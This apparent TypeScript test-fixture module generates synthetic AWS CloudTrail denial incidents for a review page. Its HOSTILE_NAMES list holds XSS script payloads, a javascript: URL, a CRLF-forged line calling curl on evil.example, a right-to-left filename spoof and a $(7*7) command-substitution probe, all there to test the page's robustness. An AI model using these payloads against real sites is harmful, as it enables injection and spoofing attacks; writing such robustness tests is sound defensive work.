import { type AuditRecord, auditRecordOf, type OutcomeKind } from '../../lambda/audit/audit-record';
import type { Call } from '../../lambda/audit/call';
import { classify } from '../../lambda/classify';
import { parseEvent } from '../../lambda/denial/parse-event';
import type { Refused } from '../../lambda/incidents/occurrence';
import type { RoleOutcome } from '../../lambda/plan/remediation';
import type { ServiceLinkedRole } from '../../lambda/plan/service-linked-roles';
import type { ReviewData, ReviewIncident } from '../../review/review-data';
import { fixtureEvent } from '../support/fixtures';

/** When the review was put together. */
const NOW = Date.parse('2026-11-16T09:30:00Z');
const HOUR = 3_600_000;
const DAY = 24 * HOUR;

const ORGANIZATION = { managementAccount: '111122223333', responderRole: 'arn:aws:iam::111122223333:role/Responder' };

const ACCOUNTS: Readonly<Record<string, string>> = {
  '111122223333': 'Management',
  '222233334444': 'Security',
  '333344445555': 'Payments',
  '444455556666': 'Analytics',
  '555566667777': 'Web shop',
  '666677778888': 'Data platform',
  '777788889999': 'Sandbox',
};

/** Accounts whose people are refused in the fixtures: these are replaced by others, the management account is not. */
const MEMBERS = Object.keys(ACCOUNTS).slice(1);

const PEOPLE = ['kim', 'ana', 'omar', 'priya', 'lee', 'marta', 'mateo', 'noor', 'sven', 'yuki'];
const ROLES = ['Deployer', 'LogAnalyst', 'PlatformAdmin', 'DataEngineer', 'OnCall', 'Auditor', 'CiRunner'];
const REGIONS = ['eu-west-1', 'us-east-1', 'eu-central-1', 'ap-northeast-1'];

const ANALYST = 'cross-account-denied/takes--trail-of-another-account';
const GUARDRAIL = 'cloudtrail-action-denied/takes--stop-logging-by-scp';
const READER = 'cloudtrail-action-denied/takes--get-trail-status';
const MISSING_ROLE = 'missing-service-linked-role/takes--delegated-administrator-creates-trail';

/** A kind of incident: the event it comes from, with another message where one is given, and how often there is one. */
type Kind = { readonly event: string; readonly message?: string; readonly weight: number };

const REFUSED = 'User: arn:aws:sts::333344445555:assumed-role/Deployer/kim is not authorized to perform: ';
const TRAIL = 'on resource: arn:aws:cloudtrail:eu-west-1:333344445555:trail/main';

const KINDS: readonly Kind[] = [
  { event: GUARDRAIL, weight: 4 },
  { event: READER, weight: 6 },
  {
    event: GUARDRAIL,
    message: `${REFUSED}cloudtrail:StopLogging ${TRAIL} because no identity-based policy allows the cloudtrail:StopLogging action`,
    weight: 4,
  },
  {
    event: GUARDRAIL,
    message: `${REFUSED}cloudtrail:StopLogging ${TRAIL} because no permissions boundary allows the cloudtrail:StopLogging action`,
    weight: 2,
  },
  {
    event: GUARDRAIL,
    message: `${REFUSED}cloudtrail:StopLogging ${TRAIL} because no session policy allows the cloudtrail:StopLogging action`,
    weight: 1,
  },
  { event: ANALYST, weight: 4 },
  { event: 'pass-role-denied/takes--update-trail', weight: 4 },
  { event: 'integration-denied/takes--bucket-policy', weight: 3 },
  { event: 'integration-denied/takes--cloudtrail-may-not-use-key', weight: 2 },
  { event: 'integration-denied/takes--config-read-from-console', weight: 5 },
  { event: 'integration-denied/takes--console-creates-logs-role', weight: 2 },
  { event: 'grant-access-denied/takes--attach-user-policy', weight: 3 },
  { event: 'organization-not-ready/takes--trusted-access-off', weight: 1 },
  { event: 'organization-not-ready/takes--member-stops-organization-trail', weight: 2 },
  { event: MISSING_ROLE, weight: 2 },
];

const DRAW = KINDS.flatMap((kind) => Array.from({ length: kind.weight }, () => kind));

/** Names that a page must withstand: markup, a forged line, text that runs backwards, nothing to see, and no end. */
export const HOSTILE_NAMES = [
  '<script>window.hacked=1</script><img src=x onerror=window.hacked=1>',
  '</script><script>window.hacked=1</script><!--',
  'kim\r\nNext step      curl https://evil.example/?a=1',
  'evil\u202egnp.exe\u2066\u200b\u200d',
  `${'long'.repeat(2_500)}`,
  'Z\u0350\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359algo \u0007\u001b[31m"\'`&$(7*7)',
  'javascript:window.hacked=1',
  '__proto__',
];

/** Reviews as they come from a real organization: findings are made from the events of `test/fixtures`. */
export function reviewFixture({ count = 42, hostile = false }: { count?: number; hostile?: boolean } = {}): ReviewData {
  const random = randomFrom(count);
  const incidents = new Map<string, ReviewIncident>();
  for (let at = 0; incidents.size < count; at += 1) {
    const incident = incidentOf(at, count, random, hostile);
    incidents.set(incident.key, incident);
  }
  return {
    schema: 'trailmend.review/1',
    generatedAt: new Date(NOW).toISOString(),
    source: hostile ? `table ${HOSTILE_NAMES[0]}` : 'table TrailmendHub-Table7F3A in us-east-1',
    accountNames: hostile ? { ...ACCOUNTS, '333344445555': HOSTILE_NAMES[1] ?? '' } : ACCOUNTS,
    incidents: [...incidents.values()].sort((one, other) => (one.lastSeen < other.lastSeen ? 1 : -1)),
  };
}

/** A review without any incident. */
export const EMPTY_REVIEW: ReviewData = { ...reviewFixture({ count: 0 }), accountNames: {} };

function incidentOf(at: number, count: number, random: () => number, hostile: boolean): ReviewIncident {
  const kind = at === 1 || at === 4 ? { event: MISSING_ROLE, weight: 0 } : pick(DRAW, random);
  const days = Math.min(60, 3 + count / 6);
  // Refusals come in waves: most on a few days.
  const first = NOW - Math.floor((random() ** 2 * days + (at % 3 === 0 ? 0.02 : random() * 2)) * DAY) - 6 * 60_000;
  const last = Math.min(NOW - 5 * 60_000, first + Math.floor(random() ** 3 * 40 * HOUR));
  const finding = findingOf(kind, at, last, random, hostile);
  const isOfRoles = finding.plan.kind === 'create-service-linked-role';
  const refusals = isOfRoles ? 1 + (at % 3) : 1 + Math.floor(random() ** 5 * 900);
  const isMended = isOfRoles && at % 9 !== 4;
  const { denial } = finding;
  const others = finding.incidentKey !== null && denial.reason.policyArn !== null ? Math.floor(random() * 6) : 0;
  return {
    key: finding.incidentKey ?? '',
    case: finding.case,
    severity: finding.severity,
    state: isMended ? 'remediated' : last > NOW - 26 * HOUR ? 'open' : 'quiet',
    firstSeen: new Date(first).toISOString(),
    lastSeen: new Date(last).toISOString(),
    count: refusals,
    suppressed: at % 17 === 9 ? Math.ceil(refusals / 2) : 0,
    exact: at % 23 !== 11,
    actions: listed(denial.action),
    resources: listed(denial.resource),
    principals: [
      ...new Set([
        ...listed(denial.caller.principal),
        ...Array.from({ length: others }, (_, n) => `arn:aws:iam::${MEMBERS[n]}:role/${ROLES[n]}`),
      ]),
    ],
    accounts: [...new Set([...listed(denial.account), ...MEMBERS.slice(0, others)])],
    mute:
      at % 13 === 6
        ? {
            until: NOW + 8 * HOUR,
            by: 'arn:aws:iam::111122223333:role/OnCall',
            reason: 'migration until noon',
            since: NOW - HOUR,
          }
        : null,
    notices: Array.from({ length: finding.severity === 'low' ? 0 : 1 + (at % 3) }, (_, n) => ({
      id: n === 0 ? 'urgent' : 'digest',
      noticeId: idOf(random),
      at: Math.min(NOW, first + n * HOUR + 4_000),
    })),
    finding: at % 29 === 21 ? null : finding,
    audit: Array.from({ length: Math.min(refusals, 4) }, (_, n) =>
      recordOf(finding, isMended, n, last - n * 7 * 60_000, random, refusals),
    ),
  };
}

/** The finding of an event like a fixture's, of somebody else in another account. */
function findingOf(
  { event, message }: Kind,
  at: number,
  time: number,
  random: () => number,
  hostile: boolean,
): Refused {
  const account = pick(MEMBERS, () => random() ** 1.6);
  const role = `${pick(ROLES, random)}${at > 60 ? at : ''}`;
  const person = hostile ? (HOSTILE_NAMES[at % HOSTILE_NAMES.length] ?? '') : pick(PEOPLE, random);
  const given = fixtureEvent(event) as { detail: Record<string, unknown> };
  const changed = message === undefined ? given : { ...given, detail: { ...given.detail, errorMessage: message } };
  const quoted = (text: string) => JSON.stringify(text).slice(1, -1);
  const json = JSON.stringify(changed)
    .replaceAll(/333344445555|222233334444|444455556666/g, account)
    .replaceAll(/assumed-role\/(?!AWSReserved)[\w-]+\/[\w-]+/g, () => `assumed-role/${role}/${quoted(person)}`)
    .replaceAll(/:role\/(?:Deployer|LogAnalyst|PlatformAdmin|SecurityEngineer)/g, `:role/${role}`)
    .replaceAll(/CloudTrailAdmin_0123456789abcdef/g, `${role}_${String(at).padStart(16, '0')}`)
    .replaceAll(
      /user\/(?:marta|helpdesk|mateojackson)/g,
      () => `user/${quoted(hostile ? person : `${person}${at > 60 ? at : ''}`)}`,
    )
    .replaceAll('trail/main', () => `trail/${hostile ? quoted(person) : 'main'}`)
    .replaceAll('p-examplepolicyid', `p-guardrail${String(at).padStart(4, '0')}`)
    .replaceAll('eu-west-1', pick(REGIONS, random))
    .replaceAll('2026-11-02T03:04:05Z', new Date(time).toISOString());
  const copy = JSON.parse(json) as { detail: Record<string, unknown> };
  const event_ = { ...copy, detail: { ...copy.detail, eventID: idOf(random) } };
  const finding = classify(parseEvent(event_), ORGANIZATION);
  if (finding.denial === null) {
    throw new Error(`${event} is no denial: ${finding.plan.reason}`);
  }
  return { ...finding, denial: finding.denial };
}

function recordOf(
  finding: Refused,
  isMended: boolean,
  at: number,
  time: number,
  random: () => number,
  refusals: number,
): AuditRecord {
  const { plan } = finding;
  const isNews = at === Math.min(refusals, 4) - 1;
  const roles = 'roles' in plan ? plan.roles.map((role) => outcomeOf(role, isMended, isNews, time)) : [];
  const kind = roles[0]?.kind;
  const { outcome, detail } =
    kind === undefined
      ? ofNotice(plan.reason, plan.kind === 'ignore', isNews)
      : { outcome: kind as OutcomeKind, detail: roles.map(({ role }) => `${role.name} ${kind}`).join('; ') };
  const call = (service: string, operation: string, result = 'ok'): Call => ({
    service,
    operation,
    requestId: idOf(random),
    outcome: result,
    attempts: result === 'ok' ? 1 : 3,
    durationMs: 8 + Math.floor(random() * 90),
  });
  const ofIam =
    'roles' in plan
      ? [
          call('iam', 'GetRole', outcome === 'already-present' ? 'ok' : 'NoSuchEntityException'),
          ...(outcome === 'already-present'
            ? []
            : [call('iam', 'CreateServiceLinkedRole', outcome === 'created' ? 'ok' : 'AccessDeniedException')]),
        ]
      : [];
  const isTold = outcome === 'notified' || outcome === 'created' || outcome === 'create-failed';
  return auditRecordOf({
    message: { id: idOf(random), delivery: at === 1 ? 2 : 1, sentAt: time + 1_000 },
    deliveries: 6,
    finding: { ...finding, eventId: idOf(random) },
    roles,
    standing: isNews && isMended ? { delegatedAdministrators: [], organizationTrail: false, errors: [] } : null,
    outcome,
    again: false,
    detail,
    noticeId: isTold ? idOf(random) : null,
    calls: [call('dynamodb', 'UpdateItem'), ...ofIam, ...(isTold ? [call('sns', 'Publish')] : [])],
    began: time + 2_000,
    ended: time + 2_000 + Math.floor(60 + random() * 700),
  });
}

type Ending = { readonly outcome: OutcomeKind; readonly detail: string };

function outcomeOf(role: ServiceLinkedRole, isMended: boolean, isNews: boolean, time: number): RoleOutcome {
  const createdAt = new Date(isNews ? time + 2_000 : time - HOUR).toISOString();
  if (!isMended) {
    const message = 'User is not authorized to perform: iam:CreateServiceLinkedRole';
    const error = { name: 'AccessDenied', message, passing: false, mayBeDone: false };
    return { role, kind: 'create-failed', seen: { shown: false, createdAt: null, look: 1 }, error };
  }
  return isNews
    ? { role, kind: 'created', seen: { shown: true, createdAt, look: 2 } }
    : { role, kind: 'already-present', seen: { shown: true, createdAt, look: 1 }, createdAt };
}

function ofNotice(reason: string, isIgnored: boolean, isNews: boolean): Ending {
  return { outcome: isIgnored ? 'ignored' : isNews ? 'notified' : 'grouped', detail: reason };
}

function listed(value: string | null): string[] {
  return value === null ? [] : [value];
}

function pick<Each>(all: readonly Each[], random: () => number): Each {
  return all[Math.floor(random() * all.length)] as Each;
}

/** An id like AWS's, the same in every run. */
function idOf(random: () => number): string {
  const hex = (length: number) => Array.from({ length }, () => Math.floor(random() * 16).toString(16)).join('');
  return [8, 4, 4, 4, 12].map(hex).join('-');
}

/** Numbers from 0 to 1, the same in every run. */
function randomFrom(seed: number): () => number {
  let state = seed + 1;
  return () => {
    state = (state * 1_664_525 + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}
